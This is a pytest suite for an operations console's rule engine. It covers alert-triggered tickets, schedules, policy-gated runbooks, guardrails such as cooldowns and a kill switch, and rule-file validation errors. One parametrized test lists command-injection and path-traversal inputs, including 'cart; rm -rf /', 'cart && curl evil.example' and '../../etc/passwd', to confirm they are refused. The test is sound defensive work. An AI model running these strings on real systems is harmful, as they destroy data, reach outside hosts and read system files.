"""Level-1 rules on a real database and the embedded estate: triggers (alerts, incidents
from the correlator, schedules on the simulated clock) run fixed workflows; runbooks go
through policy; guardrails hold across a restart; every run is audited; bad files are
refused with file, line and field."""

from __future__ import annotations

import argparse
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml

from console.domain import AlertStatus, IncidentInfo, Severity, Signal, SignalKind
from console.events import IncidentsUpdated, Notification, SignalsReceived
from console.itsm.base import TicketError, TicketRef
from console.itsm.store import BuiltinTicketStore
from console.policy import Policy
from console.rules import RUN_ACTION, RuleEngine, RuleError, load_rules, load_rules_text
from console.rules_triggers import latest_due
from console.runtime import Runtime, ScenarioDriver


@dataclass
class BrokenTickets:
    """A TicketSystem that is down (or buggy): every call raises `error`."""

    error: Exception
    name: str = "broken"

    def open(self, *, kind: str, title: str, body: str, service: str, severity: str,
             idempotency_key: str) -> TicketRef:
        raise self.error

    def update(self, ref: TicketRef, note: str) -> None:
        raise self.error

    def route(self, ref: TicketRef, group: str) -> None:
        raise self.error

    def close(self, ref: TicketRef, resolution: str, *, success: bool = True) -> None:
        raise self.error


@dataclass
class Rig:
    runtime: Runtime
    tickets: Any  # the built-in ticket store, unless a test breaks it
    notes: list[Notification]
    engines: list[RuleEngine] = field(default_factory=list)

    @property
    def service(self) -> Any:
        return self.runtime.service

    def rules(self, *rules: dict[str, Any]) -> RuleEngine:
        text = yaml.safe_dump({"rules": list(rules)}, sort_keys=False)
        loaded = load_rules_text(text, "test.yaml", self.service.engine.library)
        engine = RuleEngine(self.service, loaded, tickets=self.tickets)
        self.detach = engine.attach(self.runtime.bus)
        self.engines.append(engine)
        return engine

    def restart(self, *rules: dict[str, Any]) -> RuleEngine:
        self.detach()
        return self.rules(*rules)

    def fire(self, name: str = "HighErrorRate", service: str = "cart",
             status: AlertStatus = AlertStatus.FIRING, **labels: str) -> Signal:
        signal = Signal("test", SignalKind.ALERT, name, service, Severity.CRITICAL, status,
                        self.runtime.clock.now(), {"service": service, **labels},
                        {"summary": f"{service} is failing"})
        self.service.ingest([signal])
        return signal

    def runs(self) -> list[Any]:
        return [e for e in self.service.audit_entries() if e.action == RUN_ACTION]

    def later(self, seconds: float) -> None:
        self.runtime.clock.advance(seconds)


@pytest.fixture
def rig(runtime: Runtime) -> Iterator[Rig]:
    runtime.service.add_user("bob", "operator", as_user="alice")
    notes: list[Notification] = []
    runtime.bus.subscribe(Notification, notes.append)
    yield Rig(runtime, BuiltinTicketStore(runtime.service), notes)
    assert runtime.bus.failures == []
    assert runtime.service.verify_audit().ok  # every test leaves a chain that holds


@pytest.fixture
def estate(rig: Rig) -> ScenarioDriver:
    driver = ScenarioDriver(rig.runtime, "quiet-day", seed=7)
    driver.step(60)
    return driver


def rule(rule_id: str = "r1", trigger: dict[str, Any] | None = None,
         *workflow: dict[str, Any], **extra: Any) -> dict[str, Any]:
    return {"id": rule_id, "trigger": trigger or {"type": "alert", "state": "firing"},
            "workflow": list(workflow) or [{"do": "notify", "message": "{alert.name}"}],
            **extra}


OPEN = {"do": "ticket.open", "title": "{alert.name} on {alert.service}",
        "body": "{alert.summary} ({alert.fingerprint})"}
CLOSE = {"do": "ticket.close", "resolution": "{alert.name} resolved"}
SCALE = {"do": "runbook", "runbook": "scale-out", "params": {"service": "{alert.service}",
                                                             "count": 1}}


# --- tickets --------------------------------------------------------------------------


def test_an_alert_firing_opens_a_ticket_and_its_resolve_closes_the_same_one(rig: Rig) -> None:
    rig.rules(rule("open", None, OPEN, {"do": "ticket.route", "group": "{alert.labels.team}"},
                   {"do": "notify", "message": "ticket {ticket.id} for {alert.name}"}),
              rule("close", {"type": "alert", "state": "resolved"}, CLOSE))
    fired = rig.fire(team="shop")
    (ticket,) = rig.tickets.tickets()
    assert (ticket.number, ticket.title, ticket.body, ticket.service, ticket.severity,
            ticket.group, ticket.state) == (
        "INC-0001", "HighErrorRate on cart", f"cart is failing ({fired.fingerprint})",
        "cart", "critical", "shop", "routed")
    rig.later(120)
    rig.fire(team="shop", status=AlertStatus.RESOLVED)
    (ticket,) = rig.tickets.tickets()  # the same ticket, not a second one
    assert (ticket.state, ticket.resolution) == ("closed", "HighErrorRate resolved")
    assert [n.message for n in rig.notes] == ["ticket INC-0001 for HighErrorRate"]
    opened, closed = rig.runs()
    assert (opened.actor, opened.target, opened.decision) == \
        ("rule:open", f"alert:{fired.fingerprint}", "allow")
    assert opened.inputs["trigger"]["name"] == "HighErrorRate"
    assert [s["outcome"] for s in opened.outputs["steps"]] == ["ok", "ok", "ok"]
    assert closed.outputs["steps"][0]["ticket"]["id"] == "INC-0001"
    assert rig.engines[0].link(opened.target) is None
    assert {"ticket.open", "ticket.route", "ticket.close"} <= \
        {e.action for e in rig.service.audit_entries()}


def test_the_ticket_link_and_the_cooldown_survive_a_restart(rig: Rig) -> None:
    rules = (rule("open", None, OPEN, guardrails={"cooldown": "10m"}),
             rule("close", {"type": "alert", "state": "resolved"}, CLOSE))
    rig.rules(*rules)
    fired = rig.fire()
    rig.restart(*rules)  # a new process: the state comes back from the audit log
    rig.later(60)
    rig.fire()  # the same series fires again inside the cooldown
    rig.fire(status=AlertStatus.RESOLVED)
    (ticket,) = rig.tickets.tickets()
    assert ticket.state == "closed"
    skipped = [r for r in rig.runs() if r.decision == "deny"]
    assert [(r.actor, r.outputs["guardrail"]) for r in skipped] == [("rule:open", "cooldown")]
    assert skipped[0].target == f"alert:{fired.fingerprint}"


def test_a_second_open_for_the_same_alert_reuses_its_ticket(rig: Rig) -> None:
    rig.rules(rule("open", None, OPEN), rule("again", None, OPEN))
    rig.fire()
    assert len(rig.tickets.tickets()) == 1
    assert rig.runs()[1].outputs["steps"][0]["detail"] == "already open"


def test_an_incident_opened_by_the_correlator_in_a_scenario_triggers_a_rule(rig: Rig) -> None:
    rig.rules(rule("incident", {"type": "incident", "state": "opened",
                                "min_severity": "critical", "services": ["pay*"]},
                   {"do": "ticket.open", "title": "#{incident.id} {incident.title}",
                    "body": "services: {incident.services}"},
                   {"do": "notify", "channel": "noc", "severity": "critical",
                    "message": "incident #{incident.id} on {incident.service}: {ticket.id}"}))
    driver = ScenarioDriver(rig.runtime, "bad-deploy")
    driver.run_to_end(step=15)
    incident = rig.service.incidents()[0]
    (run,) = rig.runs()
    assert (run.actor, run.target) == ("rule:incident", f"incident:{incident.id}")
    assert run.inputs["trigger"]["transition"] == "opened"
    (ticket,) = rig.tickets.tickets()
    assert ticket.title.startswith(f"#{incident.id} ")
    assert "payments" in ticket.body
    assert [(n.channel, n.severity) for n in rig.notes] == [("noc", "critical")]
    assert rig.notes[0].message.endswith(f": {ticket.number}")


def test_incident_transitions_are_told_apart(rig: Rig) -> None:
    rig.rules(*(rule(state, {"type": "incident", "state": state},
                     {"do": "notify", "message": f"{state} #{{incident.id}}"})
                for state in ("opened", "resolved", "reopened")))
    at = rig.runtime.clock.now()

    def update(state: str) -> None:
        rig.runtime.bus.publish(IncidentsUpdated((IncidentInfo(
            7, "t", Severity.WARNING, state, ("cart",), at),)))

    for state in ("open", "open", "resolved", "open", "open"):  # the second open just grew
        update(state)
    assert [n.message for n in rig.notes] == ["opened #7", "resolved #7", "reopened #7"]


# --- schedules --------------------------------------------------------------------------


def test_a_schedule_rule_fires_at_the_right_simulated_times(rig: Rig) -> None:
    rig.rules(rule("every", {"type": "schedule", "every": "10m"},
                   {"do": "notify", "message": "due {schedule.due}"}),
              rule("daily", {"type": "schedule", "at": ["02:25"]},
                   {"do": "notify", "message": "daily {schedule.due}"}))
    driver = ScenarioDriver(rig.runtime, "quiet-day", seed=7)
    while rig.runtime.clock.now() < datetime(2026, 1, 5, 2, 41, tzinfo=UTC):
        driver.step(15)  # each step publishes the estate snapshot that ticks the rules
    dues = [(r.actor, r.inputs["due"][11:16]) for r in rig.runs()]
    assert dues == [("rule:every", "02:10"), ("rule:every", "02:20"), ("rule:daily", "02:25"),
                    ("rule:every", "02:30"), ("rule:every", "02:40")]
    assert rig.notes[0].message == "due 2026-01-05T02:10:00+00:00"


def test_schedule_arithmetic() -> None:
    from console.rules_format import ScheduleTrigger

    t = ScheduleTrigger.model_validate({"type": "schedule", "at": "22:00", "every": "4h"})
    day = datetime(2026, 1, 5, tzinfo=UTC)
    assert latest_due(t, day + timedelta(hours=21)) == day - timedelta(hours=2)  # yesterday
    assert latest_due(t, day + timedelta(hours=23, minutes=59)) == day + timedelta(hours=22)
    every = ScheduleTrigger.model_validate({"type": "schedule", "every": "7h"})
    assert latest_due(every, day + timedelta(hours=1)) == day  # counts from 00:00 UTC
    assert latest_due(every, day + timedelta(hours=22)) == day + timedelta(hours=21)


def test_a_missed_schedule_is_caught_up_once_after_a_restart(rig: Rig) -> None:
    every = rule("every", {"type": "schedule", "every": "5m"})
    every["workflow"] = [{"do": "notify", "message": "{schedule.due}"}]
    engine = rig.rules(every)
    rig.later(300)
    engine.tick()
    rig.runtime.clock.advance(3600)  # stopped for an hour
    rig.restart(every).tick()
    assert [r.inputs["due"][11:16] for r in rig.runs()] == ["02:05", "03:05"]


# --- runbooks through policy -------------------------------------------------------------


@pytest.mark.parametrize(("setup", "outcome", "state"), [
    ("ceiling0", "denied", "denied"),         # the console at level 0: nothing runs
    ("level0", "needs_approval", "pending"),  # scale at level 0: a person approves
    ("default", "queued", "queued"),          # a fixed low-risk runbook at level 1+
])
def test_a_runbook_step_goes_through_policy(rig: Rig, estate: ScenarioDriver, setup: str,
                                            outcome: str, state: str) -> None:
    if setup == "ceiling0":
        rig.service.set_autonomy_ceiling(0, as_user="alice")
    elif setup == "level0":
        rig.service.set_policy(Policy(levels={"scale": 0}), as_user="alice")
    rig.rules(rule("scale", None, SCALE, {"do": "notify", "message": "{runbook.state}"}))
    before = len(estate.player.estate.describe("cart")["instances"])
    rig.fire()
    (run,) = rig.runs()
    step = run.outputs["steps"][0]
    assert step["outcome"] == outcome
    assert run.outputs["result"] == ("denied" if outcome == "denied" else "completed")
    rec = rig.service.engine.recommendation(step["recommendation"])
    assert (rec.state, rec.requester, rec.autonomous) == (state, "rule:scale", True)
    decisions = [e for e in rig.service.audit_entries() if e.action == "policy.decide"]
    assert decisions[-1].actor == "rule:scale"
    estate.step(15)  # the engine's poll runs what policy queued
    after = len(estate.player.estate.describe("cart")["instances"])
    assert after == before + (1 if outcome == "queued" else 0)
    assert [n.message for n in rig.notes] == ([] if outcome == "denied" else [state])


def test_a_medium_risk_runbook_waits_for_a_person(rig: Rig, estate: ScenarioDriver) -> None:
    rig.rules(rule("restart", None, {"do": "runbook", "runbook": "restart-service",
                                     "params": {"service": "{alert.service}"}}))
    rig.fire()
    assert rig.runs()[0].outputs["steps"][0]["outcome"] == "needs_approval"
    assert rig.service.engine.executions() == []


@pytest.mark.parametrize("label", ["cart; rm -rf /", "$(reboot)", "cart`id`",
                                   "cart && curl evil.example", "cart|sh", "cart\nall",
                                   "../../etc/passwd", "{alert.name}"])
def test_labels_with_shell_metacharacters_are_refused(rig: Rig, estate: ScenarioDriver,
                                                      label: str) -> None:
    rig.rules(rule("scale", None, {"do": "runbook", "runbook": "scale-out",
                                   "params": {"service": "{alert.labels.target}"}},
                   {"do": "notify", "message": "never sent"}))
    rig.fire(target=label)
    (run,) = rig.runs()
    assert run.outputs["result"] == "refused"
    assert [s["outcome"] for s in run.outputs["steps"]] == ["refused"]
    assert run.outputs["steps"][0]["params"] == {"service": label}  # the text, not expanded
    assert rig.service.engine.recommendations() == []
    assert rig.notes == []


def test_a_health_check_is_run_and_recorded(rig: Rig, estate: ScenarioDriver) -> None:
    rig.rules(rule("check", None,
                   {"do": "health_check", "service": "{alert.service}", "metric": "error_rate",
                    "op": "<", "threshold": 0.5},
                   {"do": "notify", "message": "{check.passed}: {check.detail}"}),
              rule("gate", None,
                   {"do": "health_check", "service": "cart", "metric": "error_rate",
                    "op": ">", "threshold": 0.5, "required": True},
                   {"do": "notify", "message": "not reached"}))
    rig.fire()
    check, gate = rig.runs()
    assert check.outputs["steps"][0]["outcome"] == "passed"
    assert rig.notes[0].message.startswith("true: error_rate of cart is")
    assert gate.outputs["result"] == "failed"
    assert [s["outcome"] for s in gate.outputs["steps"]] == ["failed"]
    assert len(rig.notes) == 1


# --- guardrails --------------------------------------------------------------------------


def test_max_runs_holds_then_the_window_reopens(rig: Rig) -> None:
    rig.rules(rule(guardrails={"max_runs": "2 per 1h"}))
    for n in range(3):
        rig.fire(n=str(n))  # three different alert series
    rig.later(3600)
    rig.fire(n="3")
    assert [r.decision for r in rig.runs()] == ["allow", "allow", "deny", "allow"]
    assert rig.runs()[2].outputs["guardrail"] == "max_runs"
    assert len(rig.notes) == 3


def test_max_runs_survive_a_restart(rig: Rig) -> None:
    capped = rule("capped", guardrails={"max_runs": "1 per 1h"})
    rig.rules(capped)
    rig.fire(n="1")
    rig.restart(capped)
    rig.fire(n="2")
    assert [(r.decision, r.outputs.get("guardrail")) for r in rig.runs()] == \
        [("allow", None), ("deny", "max_runs")]


def test_a_simulated_clock_that_starts_again_inherits_no_future_cooldowns(rig: Rig) -> None:
    from console.clock import SimClock

    rules = (rule("open", None, OPEN, guardrails={"cooldown": "1h"}),
             rule("close", {"type": "alert", "state": "resolved"}, CLOSE))
    rig.rules(*rules)
    rig.later(3600)
    rig.fire()
    start = rig.runtime.clock.now() - timedelta(hours=1)  # the next launch's clock
    rig.service.clock = rig.runtime.clock = SimClock(start)
    rig.restart(*rules)
    rig.fire(status=AlertStatus.RESOLVED)  # the ticket link still holds
    rig.fire()                             # and the cooldown from "later" does not
    assert [r.decision for r in rig.runs()] == ["allow", "allow", "allow"]
    assert [t.state for t in rig.tickets.tickets()] == ["closed", "open"]


def test_deliveries_from_many_threads_respect_the_guardrails(rig: Rig) -> None:
    engine = rig.rules(rule(guardrails={"max_runs": "3 per 1h"}))
    signals = [Signal("test", SignalKind.ALERT, "HighErrorRate", "cart", Severity.CRITICAL,
                      AlertStatus.FIRING, rig.runtime.clock.now(), {"n": str(n)})
               for n in range(8)]
    threads = [threading.Thread(target=engine.on_signals, args=(SignalsReceived((s,)),))
               for s in signals]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    decisions = sorted(r.decision for r in rig.runs())
    assert decisions == ["allow"] * 3 + ["deny"] * 5
    assert len(rig.notes) == 3


def test_cooldown_is_per_rule_and_key(rig: Rig) -> None:
    rig.rules(rule("by-alert", guardrails={"cooldown": "10m"}),
              rule("by-service", guardrails={"cooldown": "10m",
                                             "cooldown_key": "{alert.service}"}))
    rig.fire(n="1")
    rig.fire(n="1")   # the same series: both rules cool down
    rig.fire(n="2")   # another series on the same service: only by-service cools down
    rig.later(300)
    rig.fire(n="2")
    rig.later(300)    # ten minutes after the first runs
    rig.fire(n="3")
    got = [(r.actor.removeprefix("rule:by-"), r.decision) for r in rig.runs()]
    assert got == [("alert", "allow"), ("service", "allow"),
                   ("alert", "deny"), ("service", "deny"),
                   ("alert", "allow"), ("service", "deny"),
                   ("alert", "deny"), ("service", "deny"),
                   ("alert", "allow"), ("service", "allow")]


def test_dry_run_records_what_it_would_do_and_does_nothing(rig: Rig,
                                                         estate: ScenarioDriver) -> None:
    rig.rules(rule("dry", None, OPEN, SCALE, {"do": "notify", "message": "x"},
                   guardrails={"dry_run": True}))
    rig.fire()
    (run,) = rig.runs()
    assert run.inputs["dry_run"] is True
    assert [s["outcome"] for s in run.outputs["steps"]] == ["would", "would", "would"]
    assert run.outputs["steps"][1]["detail"] == "Add 1 instance(s) to cart"
    assert rig.tickets.tickets() == []
    assert rig.notes == []
    assert rig.service.engine.recommendations() == []


def test_the_kill_switch_stops_executor_steps_but_not_tickets_or_notifications(
        rig: Rig, estate: ScenarioDriver) -> None:
    rig.service.set_kill_switch(True, as_user="bob", reason="weird night")
    rig.rules(rule("mixed", None, OPEN, SCALE, {"do": "notify", "message": "{ticket.id}"}),
              rule("only-runbook", None, SCALE))
    rig.fire()
    mixed, only = rig.runs()
    assert [s["outcome"] for s in mixed.outputs["steps"]] == ["ok", "skipped", "ok"]
    assert mixed.outputs["kill_switch"] is True
    assert (only.decision, only.outputs["guardrail"]) == ("deny", "kill_switch")
    assert rig.service.engine.recommendations() == []
    assert [t.state for t in rig.tickets.tickets()] == ["open"]
    assert [n.message for n in rig.notes] == ["INC-0001"]


def test_the_services_allow_list_covers_the_trigger_and_the_runbook_target(
        rig: Rig, estate: ScenarioDriver) -> None:
    rig.rules(rule("cart-only", None, {"do": "runbook", "runbook": "scale-out",
                                       "params": {"service": "{alert.labels.target}"}},
                   guardrails={"services": ["cart"]}))
    rig.fire(service="search")
    rig.fire(service="cart", target="payments")
    outside, retargeted = rig.runs()
    assert (outside.decision, outside.outputs["guardrail"]) == ("deny", "services")
    assert retargeted.outputs["steps"][0]["outcome"] == "denied"
    assert rig.service.engine.recommendations() == []


# --- containment ------------------------------------------------------------------------


@pytest.mark.parametrize("error", [TicketError("503 from the ITSM"), RuntimeError("bug")])
def test_a_failing_step_stops_its_run_and_nothing_else(rig: Rig, error: Exception) -> None:
    rig.tickets = BrokenTickets(error)
    rig.rules(rule("first", None, OPEN, {"do": "notify", "message": "not reached"}),
              rule("second", None, {"do": "notify", "message": "still here"}))
    rig.fire()
    first, second = rig.runs()
    assert first.outputs["result"] == "failed"
    assert [s["outcome"] for s in first.outputs["steps"]] == ["failed"]
    assert str(error) in first.outputs["steps"][0]["detail"]
    assert second.outputs["result"] == "completed"
    assert [n.message for n in rig.notes] == ["still here"]


def test_a_rule_without_a_ticket_system_fails_its_run_only(runtime: Runtime) -> None:
    loaded = load_rules_text(yaml.safe_dump({"rules": [rule("tk", None, OPEN)]}), "t.yaml")
    RuleEngine(runtime.service, loaded).attach(runtime.bus)
    runtime.service.ingest([Signal("test", SignalKind.ALERT, "X", "cart", Severity.INFO,
                                   AlertStatus.FIRING, runtime.clock.now())])
    (run,) = [e for e in runtime.service.audit_entries() if e.action == RUN_ACTION]
    assert run.outputs["steps"][0]["detail"] == "no ticket system is configured"
    assert runtime.bus.failures == []


def test_conditions_and_disabled_rules(rig: Rig) -> None:
    rig.rules(rule("prod", None, conditions=[{"field": "alert.labels.env",
                                              "not_matches": ["dev", "test-*"]}]),
              rule("night", None, conditions=[{"between": ["22:00", "06:00"]}]),
              rule("off", None, enabled=False))
    rig.fire(env="test-3")
    rig.fire(env="prod")  # 02:00 UTC is inside 22:00-06:00
    assert [r.actor for r in rig.runs()] == ["rule:night", "rule:prod", "rule:night"]


# --- the format ---------------------------------------------------------------------------


BAD = [
    ("rules:\n  - id: a1\n    trigger: {type: alert, state: burning}\n"
     "    workflow: [{do: notify, message: x}]\n", r"bad.yaml:3: rules\.0\.trigger\.state"),
    ("rules:\n  - id: a1\n    trigger: {type: alert}\n    workflow:\n"
     "      - {do: notify, message: x}\n      - {do: notify, message: \"{alert.nme}\"}\n",
     r"bad.yaml:6: rules\.0\.workflow\.1\.message: unknown field \{alert\.nme\}"),
    ("rules:\n  - id: a1\n    trigger: {type: schedule, every: 5m}\n    workflow:\n"
     "      - {do: notify, message: \"{alert.name}\"}\n",
     r"bad.yaml:5: rules\.0\.workflow\.0\.message: unknown field \{alert\.name\}"),
    ("rules:\n  - id: a1\n    trigger: {type: alert}\n    workflow:\n"
     "      - {do: notify, message: \"{ticket.id}\"}\n      - {do: ticket.open, title: t}\n",
     r"bad.yaml:5: rules\.0\.workflow\.0\.message: unknown field \{ticket\.id\}"),
    ("rules:\n  - id: a1\n    trigger: {type: alert}\n    workflow:\n"
     "      - {do: notify, message: \"{alert.name!r:>9}\"}\n",
     r"bad.yaml:5: rules\.0\.workflow\.0\.message: .*no conversion or format"),
    ("rules:\n  - id: a1\n    trigger: {type: alert}\n    workflow:\n"
     "      - {do: runbook, runbook: reboot-world}\n",
     r"bad.yaml:5: rules\.0\.workflow\.0\.runbook: no runbook 'reboot-world'"),
    ("rules:\n  - id: a1\n    trigger: {type: alert}\n    workflow:\n"
     "      - do: runbook\n        runbook: scale-out\n        params:\n"
     "          service: cart\n          force: true\n",
     r"bad.yaml:9: rules\.0\.workflow\.0\.params\.force: scale-out has no parameter"),
    ("rules:\n  - id: a1\n    trigger: {type: alert}\n    workflow:\n"
     "      - {do: runbook, runbook: scale-out, params: {count: 2}}\n",
     r"bad.yaml:5: rules\.0\.workflow\.0\.params: scale-out needs parameter\(s\) service"),
    ("rules:\n  - id: a1\n    trigger: {type: schedule, at: 22:30}\n"
     "    workflow: [{do: notify, message: x}]\n", r"bad.yaml:3: .*at.*quote clock times"),
    ("rules:\n  - id: a1\n    trigger: {type: alert}\n    workflow: [{do: reboot}]\n",
     r"bad.yaml:4: rules\.0\.workflow\.0"),
    ("rules:\n  - id: a1\n    trigger: {type: alert}\n    workflow: [{do: notify, message: x}]\n"
     "    guardrails: {max_runs: lots}\n", r"bad.yaml:5: rules\.0\.guardrails\.max_runs"),
    ("rules:\n  - id: a1\n    trigger: {type: alert}\n    workflow: [{do: notify, message: x}]\n"
     "  - id: a1\n    trigger: {type: alert}\n    workflow: [{do: notify, message: y}]\n",
     r"bad.yaml:5: rules\.1\.id: rule id 'a1' is used twice"),
    ("id: a1\n", r"bad.yaml:1: rules: a rule file is a mapping"),
]


@pytest.mark.parametrize(("text", "message"), BAD)
def test_load_errors_name_file_line_and_field(text: str, message: str) -> None:
    from console.actions.runbooks import load_library

    with pytest.raises(RuleError, match=message):
        load_rules_text(text, "bad.yaml", load_library())


def test_shipped_rules_load_and_a_user_folder_switches_one_on(tmp_path: Path) -> None:
    from console.actions.runbooks import load_library

    shipped = {r.id: r for r in load_rules(None, load_library())}
    assert {"incident-ticket-open", "critical-alert-ticket", "disk-space-low",
            "morning-check"} <= set(shipped)
    assert not any(r.enabled for r in shipped.values())  # examples: nothing runs unasked
    text = (Path(__file__).resolve().parents[1] / "resources/rules/disk-hygiene.yaml") \
        .read_text().replace("enabled: false", "enabled: true")
    (tmp_path / "mine.yaml").write_text(text)
    mine = {r.id: r for r in load_rules(tmp_path, load_library())}
    assert mine["disk-space-low"].enabled
    assert mine["disk-space-low"].source == str(tmp_path / "mine.yaml")
    (tmp_path / "again.yaml").write_text(text)
    with pytest.raises(RuleError, match="also defined in"):
        load_rules(tmp_path, load_library())


def test_the_shipped_disk_rule_frees_the_disk_on_its_own(rig: Rig, tmp_path: Path) -> None:
    text = (Path(__file__).resolve().parents[1] / "resources/rules/disk-hygiene.yaml") \
        .read_text().replace("enabled: false", "enabled: true")
    loaded = load_rules_text(text, "disk.yaml", rig.service.engine.library)
    RuleEngine(rig.service, loaded, tickets=rig.tickets).attach(rig.runtime.bus)
    driver = ScenarioDriver(rig.runtime, "disk-filling")
    driver.run_to_end(step=15)
    runs = [r for r in rig.runs() if r.decision == "allow"]
    assert runs
    assert runs[0].outputs["steps"][1]["outcome"] == "queued"
    (execution, *_) = [e for e in rig.service.engine.executions() if e.runbook_id == "free-disk"]
    assert execution.state == "succeeded"
    assert "free-disk is queued" in rig.notes[0].message


def _cli(argv: list[str]) -> argparse.Namespace:
    from console import rules_cli

    parser = argparse.ArgumentParser()
    db = argparse.ArgumentParser(add_help=False)
    db.add_argument("--db")
    rules_cli.add_parsers(parser.add_subparsers(dest="command"), db)
    return parser.parse_args(argv)


def test_the_cli_lists_and_checks_rules(tmp_path: Path, capsys: pytest.CaptureFixture[str]
                                        ) -> None:
    from console import rules_cli

    assert rules_cli.COMMANDS == ("rules",)
    assert rules_cli.dispatch(_cli(["rules", "--dir", str(tmp_path)])) == 0
    out = capsys.readouterr().out
    assert "disk-space-low" in out
    assert "rules/disk-hygiene.yaml" in out
    good, bad = tmp_path / "good.yaml", tmp_path / "elsewhere" / "bad.yaml"
    bad.parent.mkdir()
    good.write_text(yaml.safe_dump({"rules": [rule()]}))
    bad.write_text(BAD[1][0])
    assert rules_cli.dispatch(_cli(["rules", "--check", str(good)])) == 0
    assert "ok (1 rule(s): r1)" in capsys.readouterr().out
    assert rules_cli.dispatch(_cli(["rules", "--check", str(good), str(bad)])) == 2
    assert f"{bad}:6: rules.0.workflow.1.message: unknown field" in capsys.readouterr().err
    assert rules_cli.dispatch(_cli(["rules", "--json", "--dir", str(tmp_path)])) == 0
    assert '"id": "r1"' in capsys.readouterr().out


def test_the_readme_rules_example_loads() -> None:
    from console.actions.runbooks import load_library
    from console.rules import load_rules_text
    from tests.helpers import readme_yaml

    rules = load_rules_text(readme_yaml("rules:\n  - id: payments-errors"), "README.md",
                            load_library())
    assert [r.id for r in rules] == ["payments-errors", "payments-errors-cleared"]
